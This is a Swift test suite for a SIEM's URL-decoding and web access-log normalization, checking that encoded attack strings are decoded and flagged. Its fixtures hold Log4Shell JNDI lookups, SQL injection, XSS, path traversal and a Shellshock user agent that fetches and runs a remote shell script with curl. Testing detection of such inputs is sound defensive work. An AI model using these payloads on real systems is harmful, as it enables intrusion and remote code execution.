import Foundation
import SIEMTestSupport
import Testing

@testable import SIEMCore

/// What attackers encode in web requests comes out decoded in `url.path`, `url.query`,
/// `user_agent.decoded` and `http.request.referrer_decoded`; the logged text stays as it was.
@Suite struct URLDecodingTests {
    func decode(_ text: String, query: Bool = false) -> (String?, [String]) {
        var findings = URLDecoding.Findings()
        let decoded = URLDecoding.decode(Substring(text), plusAsSpace: query, findings: &findings)
        return (decoded, findings.flags)
    }

    @Test func roundsAndEscapes() {
        #expect(decode("/static/..%252f..%252fetc%252fpasswd").0 == "/static/../../etc/passwd")
        #expect(decode("/static/..%252f..%252fetc%252fpasswd").1 == ["url_double_encoded"])
        #expect(decode("%25252e%25252e%25252f").0 == "../")
        #expect(decode("%2525252e").0 == "%2e", "three rounds at most")
        #expect(decode("/plain/path").0 == nil)
        #expect(decode("q=a+b%2Bc", query: true).0 == "q=a b+c")
        #expect(decode("/a+b").0 == nil, "+ is a space in a query only")
        #expect(decode("c%2B%2B+tutorial", query: true).0 == "c++ tutorial", "+ decoded from %2B stays a +")
        #expect(decode("100%zz%4").0 == "100%zz%4", "invalid escapes are kept")
        #expect(decode("%41%zz").0 == "A%zz")
        #expect(decode("$%7Bjndi:ldap://x/a%7D").0 == "${jndi:ldap://x/a}")
        #expect(decode("%24%7B%24%7Blower%3Aj%7Dndi%3A").0 == "${${lower:j}ndi:")
        #expect(decode("%u0027%u002e").0 == "'.")
        #expect(decode("%u0027").1 == ["url_percent_u"])
    }

    @Test func nothingIsDroppedSilently() {
        #expect(decode("/index.php%00.jpg").0 == "/index.php%00.jpg")
        #expect(decode("/index.php%00.jpg").1 == ["url_nul_byte"])
        #expect(decode("a%0d%0aSet-Cookie:x").0 == "a\r\nSet-Cookie:x")
        #expect(decode("a%0d%0aSet-Cookie:x").1 == ["url_control_chars"])
        #expect(decode("union%09select").0 == "union\tselect")
        #expect(decode("..%c0%af..%c0%afetc").0 == "../../etc")
        #expect(decode("..%c0%af").1 == ["url_overlong_utf8"])
        #expect(decode("%e0%80%ae").0 == ".")
        #expect(decode("%c0%80").0 == "%00")
        #expect(decode("%ff%fe").0 == "%FF%FE")
        #expect(decode("%ff").1 == ["url_invalid_utf8"])
        #expect(decode("caf%C3%A9").0 == "café")
        #expect(decode("%F0%9F%98%80").0 == "😀")
        #expect(decode("%ed%a0%80").0 == "%ED%A0%80", "a UTF-16 surrogate is not UTF-8")
    }

    @Test func accessLogEscapes() {
        #expect(decode(#"\x22><script>alert(1)</script>"#).0 == #""><script>alert(1)</script>"#)
        #expect(decode(#"say \"hi\" \\ there"#).0 == #"say "hi" \ there"#)
        #expect(decode(#"\x25252e"#).0 == ".", "log escape first, then the percent rounds")
        #expect(decode(#"a\qb"#).0 == #"a\qb"#)
    }

    @Test func accessLineKeys() {
        let event = Samples.normalize(
            #"203.0.113.77 - - [14/Mar/2026:16:31:19 +0000] "GET /static/..%252f..%252fetc%252fpasswd?a=%27+OR+1%3D1--&b=%3Cscript%3E HTTP/1.1" 404 146 "https://x.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fe%7D" "() { :; }; /bin/bash -c \x22curl http://198.51.100.66/s.sh\x22""#
        )
        #expect(event["url.original"] == "/static/..%252f..%252fetc%252fpasswd?a=%27+OR+1%3D1--&b=%3Cscript%3E")
        #expect(event["url.path"] == "/static/../../etc/passwd")
        #expect(event["url.query"] == "a=' OR 1=1--&b=<script>")
        #expect(event["http.request.referrer"] == "https://x.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fe%7D")
        #expect(event["http.request.referrer_decoded"] == "https://x.example/?q=${jndi:ldap://e}")
        #expect(event["user_agent.original"] == #"() { :; }; /bin/bash -c \x22curl http://198.51.100.66/s.sh\x22"#)
        #expect(event["user_agent.decoded"] == #"() { :; }; /bin/bash -c "curl http://198.51.100.66/s.sh""#)
        #expect(event.normalized["log.flags"] == .array([.string("url_double_encoded")]))

        let plain = Samples.normalize(
            #"203.0.113.108 - - [14/Mar/2026:00:09:16 +0000] "GET /about HTTP/2.0" 200 9752 "-" "Mozilla/5.0""#)
        #expect(plain["url.path"] == "/about")
        #expect(plain["user_agent.decoded"] == nil)
        #expect(plain["http.request.referrer_decoded"] == nil)
        #expect(plain.normalized["log.flags"] == nil)

        let encodedQuestion = Samples.normalize(
            #"192.0.2.1 - - [14/Mar/2026:00:09:16 +0000] "GET /a%3Fb?c=d HTTP/1.1" 200 1 "-" "-""#)
        #expect(encodedQuestion["url.path"] == "/a?b")
        #expect(encodedQuestion["url.query"] == "c=d")

        let nul = Samples.normalize(
            #"192.0.2.1 - - [14/Mar/2026:00:09:16 +0000] "GET /shell.php%00.jpg HTTP/1.1" 404 1 "-" "-""#)
        #expect(nul["url.path"] == "/shell.php%00.jpg")
        #expect(nul.normalized["log.flags"] == .array([.string("url_nul_byte")]))

        let json = Samples.normalize(
            #"{"remote_addr":"192.0.2.7","request":"GET /x?q=%253Cscript%253E HTTP/1.1","status":200,"http_user_agent":"$%7Bjndi:x%7D"}"#
        )
        #expect(json["url.query"] == "q=<script>")
        #expect(json["user_agent.decoded"] == "${jndi:x}")
    }

    /// A Basic-auth user name is the client's text: spaces and brackets in it do not move the
    /// time, the request or the status.
    @Test func accessLineUserNames() {
        let spaced = Samples.normalize(
            #"192.0.2.7 - bob smith [14/Mar/2026:10:00:00 +0000] "GET /admin HTTP/1.1" 401 12 "-" "curl/8""#)
        #expect(spaced["user.name"] == "bob smith")
        #expect(spaced["url.original"] == "/admin")
        #expect(spaced["http.response.status_code"] == "401")

        let forged = Samples.normalize(
            #"192.0.2.7 - x [01/Jan/2000:00:00:00 +0000] \"GET /evil HTTP/1.1\" 200 1 [14/Mar/2026:10:00:00 +0000] "GET /real HTTP/1.1" 401 12 "-" "curl/8""#
        )
        #expect(forged["source.ip"] == "192.0.2.7")
        #expect(forged["user.name"] == #"x [01/Jan/2000:00:00:00 +0000] \"GET /evil HTTP/1.1\" 200 1"#)
        #expect(forged["url.original"] == "/real")
        #expect(forged["http.response.status_code"] == "401")
        #expect(forged.ts == Date(timeIntervalSince1970: 1_773_482_400))

        let nginx = Samples.normalize(
            #"192.0.2.7 - a\x22 [b] [14/Mar/2026:10:00:00 +0000] "GET /real HTTP/1.1" 401 12 "-" "curl/8""#)
        #expect(nginx["user.name"] == #"a\x22 [b]"#)
        #expect(nginx["url.original"] == "/real")
    }

    /// The decoded keys agree with Foundation's decoder (applied the same way, up to three
    /// rounds) on every sample line it can decode, and every line with a URL gets them.
    @Test(.enabled(if: TestData.sharedAvailable, Comment(rawValue: TestData.sharedMissingReason)))
    func samplesAgreeWithAReferenceDecoder() throws {
        var compared = 0
        for file in [
            "synthetic/web-attacks.log", "web_access/basjes_hackers-access_L1-2000.log",
            "web_access/fail2ban_nginx-botsearch.log",
        ] {
            for event in try Samples.events(file) {
                guard let original = event["url.original"] else { continue }
                let parts = original.split(separator: "?", maxSplits: 1, omittingEmptySubsequences: false)
                #expect(event["url.path"] != nil, Comment(rawValue: event.message))
                if let path = reference(String(parts[0]), query: false) {
                    #expect(event["url.path"] == path, Comment(rawValue: event.message))
                    compared += 1
                }
                if parts.count == 2, let query = reference(String(parts[1]), query: true) {
                    #expect(event["url.query"] == query, Comment(rawValue: event.message))
                }
                if let agent = event["user_agent.original"], let decoded = reference(agent, query: false),
                    decoded != agent
                {
                    #expect(event["user_agent.decoded"] == decoded, Comment(rawValue: event.message))
                }
            }
        }
        #expect(compared > 3000)
    }

    /// nginx's `\xHH` as `%HH`, then Foundation's `removingPercentEncoding` until it stops
    /// changing (three rounds at most); nil when Foundation refuses or the result has controls.
    func reference(_ text: String, query: Bool) -> String? {
        var current = text.replacingOccurrences(of: #"\x"#, with: "%")
        var previous = current
        for round in 0..<3 {
            if query, round == 0 { current = current.replacingOccurrences(of: "+", with: " ") }
            guard let decoded = current.removingPercentEncoding else { return round == 0 ? nil : previous }
            previous = decoded
            if decoded == current { break }
            current = decoded
        }
        guard !previous.unicodeScalars.contains(where: { $0.value < 0x20 || $0.value == 0x7F }) else { return nil }
        return previous
    }

    @Test func syntheticAttackLines() throws {
        let events = try Samples.events("synthetic/web-attacks.log")
        func first(_ fragment: String) throws -> Event {
            try #require(events.first { $0.message.contains(fragment) }, Comment(rawValue: fragment))
        }
        #expect(try first("..%252f..%252f")["url.path"] == "/static/../../../etc/passwd")
        #expect(try first("%253Cscript%253E")["url.query"] == "q=<script>alert(1)</script>")
        #expect(try first(".%2e/.%2e/")["url.path"] == "/cgi-bin/../../../../etc/passwd")
        #expect(try first("..%5c..%5c")["url.query"] == #"file=..\..\..\windows\win.ini"#)
        #expect(try first("/$%7Bjndi:ldap")["url.path"] == "/${jndi:ldap://198.51.100.66:1389/p}")
        #expect(try first("x=%24%7Bjndi")["url.query"] == "x=${jndi:ldap://198.51.100.66:1389/a}")
        #expect(try first(#""\x22><script>"#)["user_agent.decoded"] == #""><script>alert(1)</script>"#)
        #expect(
            try first(#"/\x22><script>alert(2)"#)["http.request.referrer_decoded"]
                == #"https://www.example.com/"><script>alert(2)</script>"#)
        #expect(
            try first("() { :; };")["user_agent.decoded"]
                == #"() { :; }; /bin/bash -c "curl http://198.51.100.66/s.sh | sh""#)
        #expect(try first("UNION%20ALL%20SELECT%20NULL--")["url.query"] == "id=42 UNION ALL SELECT NULL-- -")
        #expect(try first("GET /search?q=o%27reilly+books")["url.query"] == "q=o'reilly books")
        #expect(
            try first("\"https://www.example.com/search?q=o%27reilly+books")["http.request.referrer_decoded"]
                == "https://www.example.com/search?q=o'reilly+books")
        let tls = try first(#""\x16\x03"#)
        #expect(tls["http.request.original"] != nil)
        #expect(tls["url.path"] == nil)
    }
}
